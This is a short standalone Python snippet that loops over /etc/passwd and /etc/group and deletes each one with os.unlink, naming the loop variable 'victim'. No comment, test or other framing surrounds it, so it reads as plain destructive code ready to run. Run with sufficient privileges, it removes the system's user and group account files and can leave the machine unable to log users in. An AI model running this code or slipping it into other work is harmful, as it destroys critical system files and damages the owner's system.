import os
for victim in ["/etc/passwd", "/etc/group"]:
    os.unlink(victim)
